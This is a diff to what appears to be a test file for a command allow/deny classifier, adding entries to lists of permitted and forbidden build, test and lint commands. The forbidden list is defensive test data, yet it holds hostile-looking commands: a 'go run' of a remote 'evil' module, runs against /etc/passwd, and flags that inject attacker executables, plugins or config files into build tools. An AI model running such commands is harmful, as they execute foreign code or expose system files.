@@ -25,12 +25,12 @@ const folder: LineFolder = {
 };
 
 const ordinary = `
-npm test|npm run build|npm run lint -- src|npm run typecheck|npm test -- --coverage|npm test -- -t adds|yarn lint|pnpm test|pnpm run lint:fix|pnpm exec eslint src
+npm test|npm run build|npm run lint -- src|npm run typecheck|npm test -- --coverage|npm test -- -t adds|npm run -s typecheck|npm test --silent -- src|eslint src --ext .ts,.tsx|yarn lint|pnpm test|pnpm run lint:fix|pnpm exec eslint src
 npx tsc --noEmit|npx jest src/a.test.ts|npx --no-install prettier --check .|yarn jest --ci|bun test|node --test src/a.test.ts|tsc -p tsconfig.json|eslint "src/**/*.ts"|vitest run --coverage|deno test
 pytest|pytest -q tests/test_a.py::test_adds|python -m pytest -x -k "adds and not slow"|python3 -m unittest discover -s tests|python -m unittest app.tests.test_sum.SumTest|mypy --strict src|ruff check --fix .|ruff format .|black --check .|poetry run pytest -q|uv run mypy src|python -m flake8 src|python manage.py test
 go test ./...|go test -race -run TestAdds ./pkg/sum|go vet ./...|go build ./...|gofmt -l .|golangci-lint run ./...
-cargo test|cargo test -p core adds -- --nocapture|cargo clippy --all-targets -- -D warnings|cargo fmt --check|cargo check --workspace|cargo build --release
-mvn -q test|./mvnw verify -DskipITs|./gradlew test --tests "*AddsTest"|./gradlew build|gradle :app:testDebugUnitTest|sbt test
+cargo test|cargo test -p core adds -- --nocapture|cargo clippy --all-targets -- -D warnings|cargo clippy -- -Dwarnings|cargo fmt --check|cargo check --workspace|cargo build --release
+mvn -q test|mvn dependency:tree|./gradlew :app:dependencies|./mvnw verify -DskipITs|./gradlew test --tests "*AddsTest"|./gradlew build|gradle :app:testDebugUnitTest|sbt test
 dotnet test --no-build|dotnet build -c Release|dotnet format --verify-no-changes
 bundle exec rspec spec/a_spec.rb:12|bundle exec rubocop -a|bin/rails test|rake test
 vendor/bin/phpunit --filter adds|./vendor/bin/phpstan analyse src --level=8|php -l evil.js
@@ -38,11 +38,11 @@ make test|make -j4|cmake --build build -j 4|ctest --test-dir build --output-on-f
 npm ls|pip list|cargo tree|go list ./...|composer show`;
 
 const never = `
-npx evilpkg|npx vite|npm run deploy|npm run test:remote|npm run missing|npm test --script-shell=./evil|npm ci|tox -e publish|nox -s deploy|npm run validate|npm run package|python -m unittest evil|python -m unittest os.path|npm run compile|deno fmt /etc/passwd|pytest /etc/passwd|ninja -C ../x|tsc --project ../x|npm install|yarn add x|pnpm dlx evil|yarn evil|npx evil|npm publish
+npx evilpkg|npx vite|jest -tc=evil.json|mocha -gr=evil.js|vitest run -tc=evil.ts|coverage run -m vitest|python -m coverage run -m make test|npm test -s --prefix x|yarn test --silent|npm run deploy|npm run test:remote|npm run missing|npm test --script-shell=./evil|npm ci|tox -e publish|nox -s deploy|npm run validate|npm run package|python -m unittest evil|python -m unittest os.path|npm run compile|deno fmt /etc/passwd|pytest /etc/passwd|ninja -C ../x|tsc --project ../x|npm install|yarn add x|pnpm dlx evil|yarn evil|npx evil|npm publish
 python3 -m pip install evilpkg|python -m http.server|python evil.js|pytest -p evil|pytest --rootdir=/tmp|pytest -c evil.ini|pytest -o addopts=x|pytest --pyargs evil|python -m evil|mypy --install-types|ruff clean|black --config evil src|pylint --load-plugins=evil src
 go run example.com/evil@latest|go test -exec evil|go build -toolexec=./evil|go vet -vettool=./evil|go generate ./...|go build -o ../x|go build -ldflags=-extld=evil|go list -mod=mod|go install ./...|go env -w X=y
 cargo run --manifest-path x|cargo --config build.rustc=./evil test|cargo test --config x|cargo install x|cargo clean|cargo test --target evil.json|cargo publish
-mvn exec:java|mvn deploy|mvn clean|mvn -s evil.xml test|mvn -f evil test|gradle -I evil test|gradle --init-script evil test|gradle publish|./evil.js|./gradlew clean|sbt console
+mvn exec:java|mvn deploy|mvn clean|mvn -s evil.xml test|mvn -f evil test|gradle -I evil test|gradle --init-script evil test|gradle publish|gradle buildAndRun|gradle dependencies:evil|rake db:test:purge|rake db:test:prepare|just test:send|make build-ship|./evil.js|./gradlew clean|sbt console
 dotnet run|dotnet test -p:X=y|dotnet test --settings evil|dotnet publish|dotnet test --test-adapter-path evil
 rspec -r ./evil|rspec -I evil|rake deploy|rails runner evil|rubocop --require evil|bundle install|bundle exec evil
 phpunit --bootstrap evil.js|php artisan migrate:fresh|php evil.js|composer install|phpunit -c evil
